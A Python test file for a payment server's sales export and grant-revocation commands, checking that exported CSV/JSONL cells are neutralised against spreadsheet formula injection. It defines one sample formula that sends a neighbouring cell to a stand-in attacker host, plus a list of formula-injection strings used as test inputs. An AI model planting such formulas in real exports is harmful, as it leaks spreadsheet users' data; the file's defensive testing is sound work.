"""``x402srv export-sales`` and the console's export: one row per settled payment.

Purchases are made by the official x402 client on a real seller; the command
runs as a seller would run it (next to the running server, on its store).
Every cell is safe to open in a spreadsheet: a buyer-chosen ``resourceId`` or a
payer stored by an older release that starts like a formula is neutralised.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import time

from eth_account.signers.local import LocalAccount

from tests.support.configs import make_config
from tests.support.console import Console
from tests.support.problems import assert_problem
from tests.support.purchase import buy
from x402srv.access.records import State, Transition
from x402srv.default_plugins.memory_store import MemoryStore
from x402srv.testing import launcher
from x402srv.testing.builders import BASE_TIME, make_record, new_tx_hash
from x402srv.testing.buyers import paying_client
from x402srv.usage.sales import FIELDS, cell, render, sale_rows

#: What a spreadsheet runs: a link that sends a neighbouring cell away, a DDE call.
FORMULA_PAYER = '=HYPERLINK("https://evil.example/?leak="&A1,"0xBuyer")'


def export_sales(console: Console, *args: str) -> subprocess.CompletedProcess[str]:
    server = console.seller.server
    return launcher.run(
        ["export-sales", "--config", "seller.toml", *args],
        cwd=server.directory,
        env={**os.environ, **server.env},
    )


async def test_export_sales_as_csv_and_jsonl(console: Console, buyer: LocalAccount) -> None:
    start = time.time() - 1
    hourly = await buy(console.seller, buyer, "hourly")
    daily = await buy(console.seller, buyer, "daily")
    assert console.post(f"/grants/{daily['challengeId']}/revoke").status_code == 200
    mine = {hourly["challengeId"], daily["challengeId"]}

    result = export_sales(console, "--from", str(start), "--format", "csv")
    assert result.returncode == 0, result.stderr
    assert "settled payment" in result.stderr
    reader = csv.DictReader(io.StringIO(result.stdout))
    assert tuple(reader.fieldnames or ()) == FIELDS
    rows = {row["challengeId"]: row for row in reader if row["challengeId"] in mine}
    assert rows[hourly["challengeId"]] == {
        "settledAt": rows[hourly["challengeId"]]["settledAt"],
        "planId": "hourly",
        "network": hourly["network"],
        "asset": console.seller.chain.token.address,
        "amount": "100000",
        "amountUsd": "0.10",
        "payer": buyer.address,
        "txHash": hourly["txHash"],
        "requestId": hourly["requestId"],
        "challengeId": hourly["challengeId"],
        "status": "delivered",
        "resourceId": "default",
        "receipt": "",  # no [offer_receipt] key: nothing signed
        "refundId": "",
    }
    assert rows[daily["challengeId"]]["amountUsd"] == "1.50"
    assert rows[daily["challengeId"]]["status"] == "revoked"
    assert rows[hourly["challengeId"]]["settledAt"].endswith("Z")
    assert rows[hourly["challengeId"]]["settledAt"] <= rows[daily["challengeId"]]["settledAt"]

    lines = export_sales(console, "--from", str(start), "--format", "jsonl").stdout.splitlines()
    documents = [json.loads(line) for line in lines]
    assert {d["challengeId"]: d for d in documents if d["challengeId"] in mine} == rows
    settled_times = [d["settledAt"] for d in documents]
    assert settled_times == sorted(settled_times)

    before = export_sales(console, "--from", "2020-01-01", "--to", str(start))
    assert before.returncode == 0
    assert before.stdout.splitlines()[0] == ",".join(FIELDS)
    assert not any(challenge_id in before.stdout for challenge_id in mine)  # settled after
    assert export_sales(
        console, "--from", "2020-01-01", "--to", "2020-01-02"
    ).stdout.splitlines() == [",".join(FIELDS)]

    answer = console.get("/export", **{"from": str(start), "format": "csv"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith('attachment; filename="sales_')
    api_rows = [r for r in csv.DictReader(io.StringIO(answer.text)) if r["challengeId"] in mine]
    assert {r["challengeId"]: r for r in api_rows} == rows


async def test_a_formula_in_a_buyer_chosen_resource_id_is_neutralised(
    console: Console, buyer: LocalAccount
) -> None:
    """``resourceId`` may start with ``-``: a spreadsheet would compute ``-A1/B1``."""
    start = time.time() - 1
    http, _ = paying_client(buyer)
    async with http:
        paid = await http.post(
            console.seller.access_url, json={"planId": "hourly", "resourceId": "-A1/B1"}
        )
    assert paid.status_code == 200, paid.text
    mine = paid.json()["challengeId"]

    result = export_sales(console, "--from", str(start))
    row = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["challengeId"] == mine)
    assert row["resourceId"] == "'-A1/B1"
    lines = export_sales(console, "--from", str(start), "--format", "jsonl").stdout.splitlines()
    document = next(d for d in map(json.loads, lines) if d["challengeId"] == mine)
    assert document["resourceId"] == "'-A1/B1"
    answer = console.get("/export", **{"from": str(start), "format": "csv"})
    assert "'-A1/B1" in answer.text and ",-A1/B1" not in answer.text


async def test_a_formula_payer_stored_by_an_older_release_is_neutralised() -> None:
    """A facilitator's ``payer`` once reached the records: exports never hand it to a sheet."""
    store = MemoryStore()
    await store.start()
    settled = BASE_TIME + 10
    record = make_record(
        state=State.DELIVERED,
        payer=FORMULA_PAYER,
        tx_hash=new_tx_hash(),
        updated_at=settled,
        history=(
            Transition(State.PENDING, BASE_TIME, "created"),
            Transition(State.PAID, settled, "paid"),
        ),
    )
    await store.create_challenge(record)
    rows = await sale_rows(store, make_config(), BASE_TIME, BASE_TIME + 60)
    assert [row["challengeId"] for row in rows] == [record.challenge_id]

    [csv_row] = csv.DictReader(io.StringIO(render(rows, "csv")))
    [json_row] = [json.loads(line) for line in render(rows, "jsonl").splitlines()]
    for exported in (csv_row, json_row):
        assert exported["payer"] == "'" + FORMULA_PAYER
        assert exported["amount"] == "100000"
    await store.close()


def test_cells_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers() -> None:
    for formula in ("=1+1", "+1+1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "-1+1", "-", "=-1"):
        assert cell(formula) == "'" + formula, formula
    for kept in ("-100000", "-0.10", "100000", "0.10", "", "0xabc", "default", "a=b", "'=x"):
        assert cell(kept) == kept, kept


def test_bad_exports(console: Console) -> None:
    bad = export_sales(console, "--from", "last tuesday")
    assert bad.returncode == 2 and "--from" in bad.stderr
    assert_problem(console.get("/export"), 400, "INVALID_REQUEST")
    assert_problem(
        console.get("/export", **{"from": "2026-01-01", "format": "xls"}), 400, "INVALID_REQUEST"
    )
    assert_problem(
        console.get("/export", **{"from": "2026-01-02", "to": "2026-01-01"}), 400, "INVALID_REQUEST"
    )


async def test_grants_revoke_from_the_command_line(console: Console, buyer: LocalAccount) -> None:
    grant = await buy(console.seller, buyer)
    server = console.seller.server
    revoked_before = console.ok("/funnel")["revoked"]

    def revoke() -> subprocess.CompletedProcess[str]:
        args = ["grants", "revoke", grant["challengeId"], "--reason", "fraud"]
        return launcher.run(
            [*args, "--config", "seller.toml"],
            cwd=server.directory,
            env={**os.environ, **server.env},
        )

    first = revoke()
    assert first.returncode == 0, first.stderr
    # one line, as docker rm says what it removed; no record dump, no log line (issue 30)
    assert first.stdout.splitlines() == [
        f"revoked {grant['challengeId']} (hourly, paid 0.10 USDC ($0.10)): its tokens are "
        "refused from now on; reason: fraud"
    ]
    assert first.stderr == ""
    history = console.ok(f"/purchases/{grant['challengeId']}")["history"]
    assert history[-1]["reason"] == "revoked: by operator: fraud"
    second = revoke()
    assert second.returncode == 0
    assert second.stdout == f"{grant['challengeId']} was already revoked: nothing changed\n"
    assert console.ok(f"/purchases/{grant['challengeId']}")["revokedAt"] is not None
    # the command's own count reached the store before it exited (once: the second did nothing)
    assert console.ok("/funnel")["revoked"] == revoked_before + 1
